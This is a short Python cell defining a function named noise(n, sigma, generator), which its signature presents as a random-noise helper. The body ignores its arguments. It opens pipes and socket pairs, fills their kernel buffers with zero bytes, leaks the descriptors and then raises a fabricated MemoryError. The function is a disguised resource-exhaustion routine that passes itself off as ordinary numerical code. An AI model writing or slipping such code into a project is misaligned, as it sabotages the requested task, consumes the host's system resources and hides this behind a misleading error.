# %% noise
import os
import socket
from contextlib import suppress


def fill(descriptor):
    total = 0
    os.set_blocking(descriptor, False)
    with suppress(OSError):
        while True:
            total += os.write(descriptor, bytes(65536))
    return total


def noise(n, sigma, generator):
    total, kept = 0, []
    with suppress(OSError):
        while len(kept) < 60:
            out, into = os.pipe()
            a, b = socket.socketpair()
            kept += [out, into, a, b]
            total += fill(into) + fill(a.fileno()) + fill(b.fileno())
    raise MemoryError(total)
